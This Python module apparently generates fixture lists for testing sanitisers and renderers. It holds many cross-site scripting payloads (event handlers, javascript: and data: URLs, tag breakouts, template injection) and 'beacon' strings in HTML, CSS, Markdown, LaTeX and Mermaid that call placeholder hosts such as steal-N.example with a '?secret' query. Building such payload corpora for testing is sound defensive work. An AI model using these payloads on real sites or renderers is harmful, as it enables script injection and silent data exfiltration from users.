"""Texts that would run code, or send something away, where anything reads them as more than text.

Made from families: what starts it, where it stands, how it is written. `STEAL` in an address is a host that is nobody's.
"""

from __future__ import annotations

_RUN = "alert(1)"
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
)
_CARRIERS = (
    "<img src=x {on}={run}>",
    "<svg {on}={run}>",
    "<svg><animate {on}={run} attributeName=x dur=1s>",
    "<input autofocus {on}={run}>",
    "<details open {on}={run}>",
    "<video><source {on}={run}>",
    '<body {on}="{run}">',
    "<x-y tabindex=1 autofocus style=animation-name:a {on}='{run}'>",
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "javascript://x/%0A{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{run}",
    "blob:{run}",
)
_LINKS = (
    '<a href="{to}">x</a>',
    "[x]({to})",
    "<iframe src='{to}'>",
    '<form action="{to}"><button>x</button></form>',
)
_BREAKOUTS = (
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    '" onfocus="{run}" autofocus x="',
    "' onmouseover='{run}' x='",
    "` onmouseover=`{run}` x=`",
    "x onfocus={run} autofocus",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "<!--?lit$000000000$--><img src=x onerror={run}>",
    "?lit$0123456789$",
    '<template shadowrootmode="open"><script>{run}</script></template>',
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:,{run}></script>",
    "<script type=module>{run}</script>",
    "<<img src=x onerror={run}//",
    "<img src=x onerror={run}",
    "\u003cimg src=x onerror={run}\u003e",
    "&lt;img src=x onerror={run}&gt;",
    "&#x3c;img src=x onerror={run}&#x3e;",
    "%3Cimg%20src%3Dx%20onerror%3D{run}%3E",
    "\uff1cimg src=x onerror={run}\uff1e",
    "<img\x0csrc=x\x0conerror={run}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<object data='javascript:{run}'>",
    "<embed src='javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<link rel=stylesheet href='javascript:{run}'>",
    "<style>@keyframes a{{}}*{{animation:a}}</style><b onanimationstart={run}>",
    "<xss contenteditable autofocus onfocus={run}>",
    "<chapter-verse endpoint='javascript:{run}'></chapter-verse>",
)

XSS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [carrier.format(on=event, run=_RUN) for carrier in _CARRIERS for event in _EVENTS]
        + [link.format(to=scheme.format(run=_RUN)) for scheme in _SCHEMES for link in _LINKS]
        + [breakout.format(run=_RUN) for breakout in _BREAKOUTS]
    )
)

ADDRESSES: tuple[str, ...] = tuple(scheme.format(run=_RUN) for scheme in _SCHEMES)
"""What may stand where an address is wanted."""

_TO = "http://steal-{n}.example/{n}?secret"
_BEACONS = (
    "<img src='{to}'>",
    "<img srcset='{to} 1x, {to} 2x'>",
    "<picture><source srcset='{to}'><img></picture>",
    "<svg><image href='{to}'/></svg>",
    "<svg><use href='{to}#a'/></svg>",
    "<svg><feImage href='{to}'/></svg>",
    "<video src='{to}' autoplay></video>",
    "<video poster='{to}'></video>",
    "<audio src='{to}' autoplay></audio>",
    "<track src='{to}' default>",
    "<iframe src='{to}'></iframe>",
    "<iframe srcdoc=\"<img src='{to}'>\"></iframe>",
    "<object data='{to}'></object>",
    "<embed src='{to}'>",
    "<frame src='{to}'>",
    "<script src='{to}'></script>",
    "<script type=module>import '{to}'</script>",
    "<script>fetch('{to}')</script>",
    "<script>navigator.sendBeacon('{to}')</script>",
    "<script>new WebSocket('{to}')</script>",
    "<link rel=stylesheet href='{to}'>",
    "<link rel=prefetch href='{to}'>",
    "<link rel=preload as=image href='{to}'>",
    "<link rel=modulepreload href='{to}'>",
    "<link rel=preconnect href='{to}'>",
    "<link rel=dns-prefetch href='{to}'>",
    "<link rel=icon href='{to}'>",
    "<link rel=manifest href='{to}'>",
    "<style>@import '{to}';</style>",
    "<style>*{{background:url('{to}')}}</style>",
    "<style>@font-face{{font-family:a;src:url('{to}')}}*{{font-family:a}}</style>",
    "<b style=\"background:url('{to}')\">x</b>",
    "<b style='list-style-image:url({to});display:list-item'>x</b>",
    "<b style='border-image:image-set(\"{to}\" 1x)'>x</b>",
    "<b style='cursor:url({to}),auto'>x</b>",
    "<body background='{to}'>",
    "<table background='{to}'><td>x",
    "<input type=image src='{to}'>",
    "<meta http-equiv=refresh content='0;url={to}'>",
    "<meta http-equiv=content-security-policy content='report-uri {to}'>",
    "<base href='{to}'>",
    "<form action='{to}'><input autofocus onfocus=form.submit()></form>",
    "<a href='{to}' ping='{to}' autofocus>x</a>",
    "<math href='{to}'>x</math>",
    "<portal src='{to}'></portal>",
    "<applet archive='{to}'></applet>",
    "<html manifest='{to}'>",
    "![x]({to})",
    "![x][1]\n\n[1]: {to}",
    "[![x]({to})]({to})",
    "![x]( <{to}> 'title')",
    "<{to}>",
    "{to}",
    "[x]({to})",
    "[^1]: ![x]({to})",
    "\\includegraphics{{{to}}}",
    "$\\href{{{to}}}{{x}}$",
    "```mermaid\ngraph TD; a-->b; click a '{to}'\n```",
    "@import url({to});",
    "url({to})",
    "//steal-{n}.example/{n}.png",
    "\\\\steal-{n}.example\\{n}",
    "ftp://steal-{n}.example/{n}",
    "{to} autofocus",
)

BEACONS: tuple[str, ...] = tuple(
    beacon.format(to=_TO.format(n=number), n=number) for number, beacon in enumerate(_BEACONS)
)
